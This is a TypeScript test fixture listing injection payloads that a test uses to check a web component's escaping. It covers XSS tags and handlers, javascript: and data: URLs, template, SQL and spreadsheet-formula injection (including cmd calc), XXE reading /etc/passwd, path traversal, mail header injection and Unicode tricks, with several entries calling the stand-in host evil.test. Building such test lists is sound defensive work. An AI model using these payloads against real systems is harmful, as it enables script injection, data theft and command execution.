/**
 * Texts that do harm where text is taken for code. What they would run is `pwned()`, what they would fetch is of
 * `evil.test`, and what they would add to a page has the id `pwned`: a test watches for all three.
 */
export const PAYLOADS: readonly string[] = [
  // Elements.
  '<script>pwned()</script>', '<script src=//evil.test/1.js></script>', '<SCRIPT id=pwned>pwned()</SCRIPT>', '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<img src=x id=pwned onerror=pwned()>', '<img src=//evil.test/2.png>', '<svg onload=pwned()>', '<svg/onload=pwned()//', '<svg><script>pwned()</script></svg>',
  '<svg><use href="//evil.test/3.svg#x"/></svg>', '<svg><animate onbegin=pwned() attributeName=x dur=1s>', '<svg><foreignObject><body onload=pwned()>',
  '<math><mtext><img src=x onerror=pwned()></mtext></math>', '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>', '<iframe src="javascript:parent.pwned()"></iframe>',
  '<object data="javascript:pwned()"></object>', '<embed src=//evil.test/4>', '<link rel=stylesheet href=//evil.test/5.css>', '<meta http-equiv=refresh content="0;url=//evil.test/6">',
  '<base href=//evil.test/>', '<form action="javascript:pwned()"><button id=pwned autofocus onfocus=pwned()>', '<input autofocus onfocus=pwned()>', '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>', '<audio src=//evil.test/7.mp3 autoplay>', '<body onpageshow=pwned()>', '<marquee onstart=pwned()>', '<x id=pwned onclick=pwned()>', '<style>@import "//evil.test/8.css"</style>',
  '<style onload=pwned()></style>', '<template shadowrootmode=open><img src=x onerror=pwned()></template>', '<noscript><p title="</noscript><img src=x onerror=pwned()>">', '<a href="javascript:pwned()" id=pwned>x</a>',
  '<!--<img src="--><img src=x onerror=pwned()>', '--><img src=x onerror=pwned()><!--', '--!><img src=x onerror=pwned()>', ']]><img src=x onerror=pwned()>', '<![CDATA[<img src=x onerror=pwned()>]]>',
  // Out of an attribute or an element.
  '"><img src=x id=pwned onerror=pwned()>', "'><img src=x onerror=pwned()>", '" onmouseover="pwned()" autofocus onfocus="pwned()', "' onfocus='pwned()' autofocus='", '` onerror=`pwned()', '" style="background:url(//evil.test/9)"',
  '</title><script>pwned()</script>', '</textarea><script>pwned()</script>', '</style><script>pwned()</script>', '</script><script>pwned()</script>', '</option></select><img src=x onerror=pwned()>', '</svg><img src=x onerror=pwned()>',
  '</iframe><img src=x onerror=pwned()>', '</area-explorer><script>pwned()</script>', '"></iframe><script>pwned()</script>',
  // Addresses.
  'javascript:pwned()', 'JaVaScRiPt:pwned()', 'java\tscript:pwned()', 'java\nscript:pwned()', ' javascript:pwned()', '\u0001javascript:pwned()', 'javascript&colon;pwned()', 'javascript://example.org/%0Apwned()',
  'data:text/html,<script>parent.pwned()</script>', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+', 'data:image/svg+xml,<svg onload=pwned()>', 'vbscript:pwned()', 'blob:http://evil.test/10', 'file:///etc/passwd',
  '//evil.test/11', '\\\\evil.test\\12', 'http://evil.test/13"><img src=x onerror=pwned()>', 'https://example.org@evil.test/14', 'mailto:a@example.org?bcc=evil@evil.test&body=x', 'filesystem:http://evil.test/15', 'intent://evil.test#Intent;end',
  // Styles.
  'red;background:url(//evil.test/16)', 'url(//evil.test/17)', 'expression(pwned())', '}*{background:url(//evil.test/18)}', '--x:url(//evil.test/19)', '@import "//evil.test/20";',
  // Templates, of Lit's own too.
  '${pwned()}', '{{constructor.constructor("pwned()")()}}', '{{7*7}}', '<%= pwned() %>', '#{pwned()}', '[[${pwned()}]]', '{%raw%}{{pwned()}}', 'lit$1234$', '<?lit$1234$>', '<!--?lit$1234$-->', 'x-lit-attr$lit$=', '{name}', '["get","name"]', '["image","pwned"]', '%catalogue.title%', '%s%n%x',
  // Encoded once or twice, or otherwise written.
  '&lt;img src=x onerror=pwned()&gt;', '&amp;lt;script&amp;gt;pwned()', '%3Cscript%3Epwned()%3C/script%3E', '\\u003cscript\\u003epwned()', '\\x3cimg src=x onerror=pwned()\\x3e', '＜script＞pwned()＜/script＞', '<\u0000script>pwned()</script>', '<img/src="x"/onerror=pwned()>', '+ADw-script+AD4-pwned()',
  // Names that objects have.
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', '"__proto__":{"pwned":true}',
  // Tables, mails, files, databases, terminals.
  '=HYPERLINK("http://evil.test/21";"x")', '=cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=IMPORTXML("http://evil.test/22","//a")', '\t=1+1', 'x\r\nBcc: evil@evil.test\r\n\r\nx', '%0d%0aBcc: evil@evil.test',
  "'); DROP TABLE gpkg_contents; --", '"; ATTACH DATABASE \'x\' AS y; --', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', '<?xml-stylesheet href="//evil.test/23"?>', '<NetworkLink><href>http://evil.test/24</href></NetworkLink>', '../../../etc/passwd', '..\\..\\windows\\win.ini', '\u001b]0;pwned\u0007', '\u001b[31mx',
  // What hides or turns text.
  '\u202Egnp.exe', '\u2066abc\u2069', 'a\u0000b', '\uFEFFx', '\uD800', '\u2028pwned()\u2029', 'x'.repeat(3000),
];

/** Addresses of kinds that may be links, with what would break out of one. */
export const LINKS: readonly string[] = [
  'https://example.org/"><img/src=x/onerror=pwned()>', "http://example.org/'onmouseover='pwned()", 'https://example.org/?q=<script>pwned()</script>', 'https://example.org/#"></a><svg/onload=pwned()>',
  'mailto:a@example.org?subject="><script>pwned()</script>', 'tel:+351"><script>pwned()</script>', 'https://example.org/javascript:pwned()', 'https://user:password@example.org/',
];

/** Those of the payloads that are addresses of kinds which may never be links. */
export const NO_LINKS: readonly string[] = PAYLOADS.filter((payload) => /^[\s\p{Cc}]*(?:java|data:|vbscript:|blob:|file|intent:)/iu.test(payload));
